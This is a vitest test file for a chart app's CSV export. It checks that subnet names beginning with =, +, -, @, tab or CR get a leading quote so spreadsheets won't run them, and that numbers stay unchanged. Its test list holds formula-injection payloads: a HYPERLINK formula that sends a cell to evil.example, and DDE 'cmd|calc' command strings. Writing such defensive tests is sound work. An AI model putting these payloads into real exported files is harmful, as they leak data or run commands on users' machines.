/**
 * CSV downloads are safe to open in a spreadsheet (issue 16, item 6): a cell starting with =, +, -, @, tab or CR
 * gets a leading ' (OWASP), e.g. on-chain subnet names; numbers stay numbers. Through the real chart rows of
 * subnet-pools (the pools view lists subnet names) and rowsToCsv, as /data/charts/subnet-pools.csv is built.
 */
import { csvParse } from 'd3-dsv';
import { describe, expect, it } from 'vitest';
import { CHARTS } from '../../src/charts/index.ts';
import { csvCell, rowsToCsv } from '../../src/charts/table.ts';
import { dtaoSnapshot, reference } from '../fixtures/snapshots.ts';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV cells a spreadsheet would run', () => {
  it('hostile subnet names are neutralised with a leading quote in /data/charts/subnet-pools.csv', () => {
    const snapshot = dtaoSnapshot();
    HOSTILE.forEach((name, i) => (snapshot.subnets!.rows[i + 1].name = name));
    const def = CHARTS['subnet-pools'];
    const rows = def.rows({ snapshot, reference: reference() });
    const csv = csvParse(rowsToCsv(rows, def.columns));
    for (const name of HOSTILE) {
      const row = csv.find((r) => r.series === `'${name}`);
      expect(row, name).toBeDefined();
    }
    for (const r of csv)
      for (const v of Object.values(r)) if (v) expect(v, JSON.stringify(r)).not.toMatch(/^[=+@\t\r]/);
    // numbers stay numbers: every value cell parses back to the number the row holds
    const numeric = rows.filter((r) => typeof r.value === 'number');
    expect(numeric.length).toBeGreaterThan(10);
    csv.forEach((r, i) => {
      if (typeof rows[i].value === 'number') expect(Number(r.value)).toBe(rows[i].value);
    });
  });

  it('numbers, and decimal numbers written as text, are left as they are', () => {
    expect(csvCell(-5)).toBe(-5);
    expect(csvCell('-5')).toBe('-5');
    expect(csvCell('-0.25')).toBe('-0.25');
    expect(csvCell('+3e-4')).toBe('+3e-4');
    expect(csvCell('-')).toBe("'-");
    expect(csvCell('subnet 3')).toBe('subnet 3');
    expect(csvCell(null)).toBe(null);
  });
});
